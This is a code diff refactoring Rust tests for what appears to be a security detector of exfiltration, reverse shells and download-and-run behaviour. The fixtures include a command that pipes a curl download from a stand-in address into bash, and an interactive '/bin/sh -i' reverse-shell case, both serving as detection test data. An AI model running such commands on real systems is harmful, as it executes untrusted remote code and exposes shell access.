@@ -110,7 +110,7 @@ fn tar_z_archive_written_by_its_fork_then_sent_by_curl() {
         303,
         "/usr/bin/curl",
         curl_cmd,
-        lineage(&[script.clone()]),
+        lineage(std::slice::from_ref(&script)),
     );
     let mut connect = net(
         1.1,
@@ -150,7 +150,7 @@ fn named_pipe_reverse_shell_pairs_the_shell_and_the_relay() {
         402,
         "/bin/sh",
         "/bin/sh -i",
-        lineage(&[wrapper.clone()]),
+        lineage(std::slice::from_ref(&wrapper)),
     );
     super::merge(&mut shell, pipes);
     let mut connect = net(
@@ -192,7 +192,13 @@ fn a_piped_shell_and_an_unrelated_nc_do_not_pair() {
     super::merge(&mut connect, lineage(&[b]));
     // The same parent but 30 s apart does not pair either.
     let c = anc(504, "/usr/bin/bash", &["bash", "c.sh"]);
-    let mut late_shell = exec(40.0, 505, "/bin/sh", "/bin/sh", lineage(&[c.clone()]));
+    let mut late_shell = exec(
+        40.0,
+        505,
+        "/bin/sh",
+        "/bin/sh",
+        lineage(std::slice::from_ref(&c)),
+    );
     super::merge(
         &mut late_shell,
         json!({"sensor": {"stdio": {"stdin": "pipe", "stdout": "pipe"}}}),
@@ -222,7 +228,7 @@ fn shell_whose_own_command_line_runs_a_download() {
         601,
         "/usr/bin/bash",
         "bash -c bash -c \"$(curl -fsSL http://198.51.100.2:8080/get)\"",
-        lineage(&[script.clone()]),
+        lineage(std::slice::from_ref(&script)),
     );
     // A shell merely mentioning curl, without substitution, is not it.
     let plain = exec(
